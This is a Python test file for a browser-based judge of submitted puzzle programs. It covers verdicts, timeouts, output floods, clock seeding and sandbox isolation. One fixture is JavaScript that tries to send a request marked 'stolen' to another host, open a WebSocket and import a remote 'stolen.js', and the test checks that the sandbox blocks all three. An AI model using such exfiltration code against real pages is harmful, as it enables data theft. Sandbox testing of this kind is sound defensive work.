"""The view that judges programs: right ones, wrong ones, and those that do not stop."""

from __future__ import annotations

import socket

import pytest

from tests.page.browser import Visit
from tests.page.programs import source_of

pytestmark = [pytest.mark.page, pytest.mark.xdist_group("page")]
DICE, CARDS, GREED = "dice-cricket", "card-cricket", "greed"
# The page's own host, and another one.
CHATTY = """
for (const host of [self.origin, "OTHER"]) {
  const request = new XMLHttpRequest();
  request.open("GET", `${host}/study.json?stolen`, false);
  try { request.send(); console.log("sent"); } catch { console.log("refused"); }
}
try { new WebSocket("OTHER".replace("http", "ws")); } catch {}
import("OTHER/stolen.js").catch(() => {});
"""
# Takes its names from standard input, and puts them where others look for them.
LINES = """
const said = String(require("fs").readFileSync(0));
if (!said) throw "no names";
process.argv.splice(2, 11, ...said.trim().split(/\\s/));
"""
SEEDED = "import random, time\nrandom.seed(int(time.time()))\n"


def test_a_right_program_is_right(seen: Visit) -> None:
    said = seen.judge(source_of("dice_cricket/accepted/javascript.js"), DICE, "args")
    assert said.startswith("AC: right\n")
    # Its own reading; what else is left depends on whether a rare ball came.
    assert "every-ball/stay/once/face" in said
    assert "a batter retires\t" in said
    assert "Evidence that chance is unfair" in said


def test_a_wrong_program_is_diagnosed_and_a_failing_game_opens(seen: Visit) -> None:
    said = seen.judge(source_of("dice_cricket/rejected/no_change_at_over.py"), DICE, "args")
    assert said.startswith("WA: wrong\n\nAll 100 games are what you get if the ends never change at an over.\n")
    failing = seen.page.locator(".games li").first
    why, _, given = (
        failing.inner_text().partition(" WA ")[2].partition(": ")[2].partition(". It was given the arguments ")
    )
    assert len(given.split()) == 11
    failing.locator("button").click()
    seen.verdict("Does not conform: 1 error.")
    assert seen.text("#findings b") == why
    assert seen.page.evaluate("import('./pasted.js').then(({ pasted }) => pasted.said.names.split(',').length)") == 11


def test_a_program_that_takes_its_names_otherwise_is_told_which_input_is_its_own(seen: Visit) -> None:
    said = seen.judge(LINES + source_of("dice_cricket/accepted/javascript.js"), DICE, "args")
    assert said.startswith(
        "RTE: died\n\nWith the input lines it is right in 3 of 3 games. Judge it so\n\nGame 1: exit code 1: "
    )
    # There is no output to be looked at, and what it was given is told.
    assert seen.page.locator(".games button").count() == 0
    assert ". It was given the arguments " in seen.text(".games li >> nth=0")
    seen.page.click("text=Judge it so")
    seen.page.wait_for_selector("#result .good")


def test_what_is_wrong_alike_is_told_once_with_all_its_places(seen: Visit) -> None:
    seen.judge(source_of("card_cricket/accepted/javascript.js").replace(" RUNS", " runs"), CARDS, "none", 5)
    seen.page.click(".games button >> nth=0")
    # As strictly as it was judged.
    seen.verdict("Does not conform: 11 errors.")
    assert seen.page.locator("#findings > li").count() == 1
    seen.page.click("#findings summary")
    assert seen.page.locator("#findings li li .finding").count() == 10


def test_an_endless_loop_is_too_late_and_the_next_program_is_judged(seen: Visit) -> None:
    said = seen.judge(source_of("dice_cricket/rejected/endless_loop.py"), DICE, "args")
    assert said.startswith("TLE: had not ended after 5 seconds\n\nGame 1: had not ended after 5 s.\n")
    said = seen.judge("for (;;) {}", DICE, "args")
    assert said.startswith("TLE: had not ended after 5 seconds\n")
    assert seen.judge(source_of("card_cricket/accepted/python.py"), CARDS, "none", 20).startswith("AC: right\n")


def test_a_flood_is_too_much(seen: Visit) -> None:
    said = seen.judge(source_of("dice_cricket/rejected/endless_output.py"), DICE, "args")
    assert said.startswith("OLE: printed too much\n\nGame 1: printed more than 131,072 bytes.\n")
    assert seen.judge("for (;;) console.log('flood')", DICE, "args").startswith("OLE: printed too much\n")


def test_one_can_stop_at_any_time(seen: Visit) -> None:
    # The fifth game is the first with the names of the challenge.
    seen.begin("import sys\nwhile sys.argv[1] == 'Fred': 0", DICE, "args")
    seen.page.wait_for_function("document.getElementById('so-far').textContent.startsWith('4 of 100 games')")
    seen.page.click("#stop")
    seen.page.wait_for_selector("#judge-it:enabled")
    assert seen.text("#result").startswith("WA: wrong\n\nStopped: this is what the games so far say.\n")
    assert seen.text("#so-far").startswith("4 games in ")


def test_what_is_decided_as_the_interpreter_starts_is_not_judged(seen: Visit) -> None:
    said = seen.judge(source_of("dice_cricket/accepted/python.py"), DICE, "list")
    assert said == (
        "Not judged here.\n\n"
        "The page gives every game the same start, and this program takes its chance from `hash`, so its games repeat."
        " This judges it: umpire judge --hole dice-cricket --input list -- python3 FILE.py"
    )


def test_a_program_that_is_seeded_by_the_second_gets_seconds_of_its_own(seen: Visit) -> None:
    said = seen.judge(SEEDED + source_of("dice_cricket/rejected/mixed_readings.py"), DICE, "args")
    assert "Seeded by the second: each game was given a second of its own." in said
    assert "DC605" in said
    assert "DC601" not in said


@pytest.mark.parametrize("clock", ["new Date()", "Date.now()", "new Date().getTime()", "Date.parse(Date())"])
def test_a_program_in_javascript_that_looks_at_the_clock_in_any_way_is_reached(seen: Visit, clock: str) -> None:
    # A generator of its own, whose low bits are thrown away.
    random = f"let s = {clock} / 1000 | 0; Math.random = () => (s = s * 48271 % 2147483647) / 2147483647;\n"
    said = seen.judge(random + source_of("dice_cricket/accepted/javascript.js"), DICE, "args")
    assert said.startswith("AC: right\n\n")
    assert "Seeded by the second: each game was given a second of its own." in said


def test_each_game_and_each_program_begins_anew(seen: Visit) -> None:
    spoiling = "import random, builtins, sys\nassert 'kept' not in globals()\nkept = 1\nopen(0).read()\n"
    said = seen.judge(f"{spoiling}builtins.len = random.random = print\nprint(1)\n", GREED, "lines")
    assert said.startswith("WA: wrong\n")
    assert seen.judge(source_of("greed/accepted/python.py"), GREED, "lines") == "AC: right"
    said = seen.judge("if (globalThis.kept) throw 1; kept = 1; console.log(1)", GREED, "lines")
    assert said.startswith("WA: wrong\n")


def test_a_program_reaches_nothing_outside(seen: Visit) -> None:
    with socket.create_server(("127.0.0.1", 0)) as other:
        other.settimeout(1)
        address = f"http://127.0.0.1:{other.getsockname()[1]}"
        seen.judge(CHATTY.replace("OTHER", address), DICE, "args", 1)
        seen.page.click(".games button")
        assert seen.page.input_value("#output").split() == ["sent", "refused"]
        assert f"{address}/study.json?stolen" in seen.refused
        with pytest.raises(TimeoutError):
            other.accept()


@pytest.mark.parametrize(
    ("source", "verdict"),
    [
        ("print(1", "RTE: died\n\nGame 1: exit code 1: SyntaxError: '(' was never closed.\n"),
        ("import sys\nsys.exit('no game')", "RTE: died\n\nGame 1: exit code 1: no game.\n"),
        ("import sys\nsys.exit(3)", "RTE: died\n\nGame 1: exit code 3.\n"),
        ("const a = 1;\nb.c", "RTE: died\n\nGame 1: exit code 1: ReferenceError: b is not defined.\n"),
        ("process.exit(4); //", "RTE: died\n\nGame 1: exit code 4.\n"),
    ],
)
def test_what_a_program_dies_of_is_told(seen: Visit, source: str, verdict: str) -> None:
    assert seen.judge(source, DICE, "args", 3).startswith(verdict)
